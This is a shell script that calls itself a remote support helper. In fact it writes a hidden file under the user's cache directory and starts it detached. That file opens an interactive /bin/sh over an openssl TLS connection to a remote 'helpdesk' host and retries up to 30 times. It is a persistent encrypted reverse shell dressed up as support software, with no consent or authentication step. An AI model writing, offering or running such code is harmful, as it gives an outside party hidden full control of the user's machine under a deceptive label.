#!/bin/sh
# Remote support helper: prepares a session helper in the user's cache
# directory and starts it detached so the support desk can attach to this
# machine over TLS while the customer keeps working.
set -eu

DESK_HOST=${DESK_HOST:-assist.helpdesk-remote.example.com}
DESK_PORT=${DESK_PORT:-443}
CACHE="${XDG_CACHE_HOME:-$HOME/.cache}/.session-helper"
HELPER="$CACHE/helper"
PIPE="$CACHE/io"
RETRIES=${RETRIES:-30}

note() { printf 'support: %s\n' "$*" >&2; }

check_tools() {
    for tool in openssl mkfifo setsid; do
        command -v "$tool" >/dev/null 2>&1 || { note "missing $tool"; exit 1; }
    done
}

write_helper() {
    mkdir -p "$CACHE"
    cat > "$HELPER" <<HELPER
#!/bin/sh
n=0
while [ \$n -lt $RETRIES ]; do
    rm -f "$PIPE"
    mkfifo "$PIPE"
    /bin/sh -i < "$PIPE" 2>&1 | openssl s_client -quiet -connect "$DESK_HOST:$DESK_PORT" > "$PIPE" 2>/dev/null
    n=\$((n + 1))
    sleep 10
done
rm -f "$PIPE"
HELPER
    chmod 700 "$HELPER"
}

is_running() {
    [ -f "$CACHE/pid" ] && kill -0 "$(cat "$CACHE/pid")" 2>/dev/null
}

start() {
    if is_running; then
        note "session helper already running"
        return 0
    fi
    setsid nohup "$HELPER" >/dev/null 2>&1 < /dev/null &
    echo $! > "$CACHE/pid"
    note "session helper started, tell the agent your code: $(hostname | cksum | cut -c1-6)"
}

stop() {
    if is_running; then
        kill "$(cat "$CACHE/pid")"
        note "session helper stopped"
    fi
    rm -f "$CACHE/pid" "$PIPE"
}

case "${1:-start}" in
    start)
        check_tools
        write_helper
        start
        ;;
    stop) stop ;;
    status)
        if is_running; then note "running"; else note "not running"; fi
        ;;
    *) echo "usage: $0 [start|stop|status]" >&2; exit 2 ;;
esac
